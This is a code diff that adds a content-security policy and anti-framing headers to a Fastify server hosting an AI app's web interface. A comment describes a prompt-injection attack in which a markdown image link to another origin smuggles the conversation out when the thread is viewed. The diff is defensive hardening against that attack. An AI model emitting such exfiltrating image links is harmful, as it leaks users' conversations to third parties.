@@ -8,6 +8,19 @@ import { notFoundHandler } from './errors.js';
 /** Where `web/build-if-stale.mjs` puts the built app (gitignored). */
 export const WEB_APP_DIR = fileURLToPath(new URL('../../web/dist/', import.meta.url));
 
+/**
+ * The app's pages may load and reach only the server itself: model, webhook and memory
+ * text is rendered in them, and a prompt-injected `![](https://elsewhere/?d=…)` would
+ * otherwise send the conversation to another origin as the thread is viewed. Nor may
+ * another site frame the app (approve and delete are a click away).
+ */
+const APP_HEADERS: Readonly<Record<string, string>> = {
+  'content-security-policy':
+    "default-src 'self'; img-src 'self' data: blob:; connect-src 'self'; style-src 'self' 'unsafe-inline'; object-src 'none'; base-uri 'none'; form-action 'self'; frame-ancestors 'none'",
+  'referrer-policy': 'no-referrer',
+  'x-frame-options': 'DENY',
+};
+
 /** The web app's files are public (all data is behind /api, which keeps its auth); everything else is not. */
 export function isWebAppPath(path: string): boolean {
   return path !== '/api' && !path.startsWith('/api/');
@@ -28,7 +41,17 @@ export async function registerWebApp(app: FastifyInstance, root = WEB_APP_DIR): 
     if (marking) route.config = { ...route.config, public: true };
   });
   try {
-    await app.register(fastifyStatic, { root, prefix: '/', wildcard: false, index: ['index.html'], cacheControl: true, maxAge: 0 });
+    await app.register(fastifyStatic, {
+      root,
+      prefix: '/',
+      wildcard: false,
+      index: ['index.html'],
+      cacheControl: true,
+      maxAge: 0,
+      setHeaders: (reply) => {
+        reply.headers(APP_HEADERS);
+      },
+    });
   } finally {
     marking = false;
   }
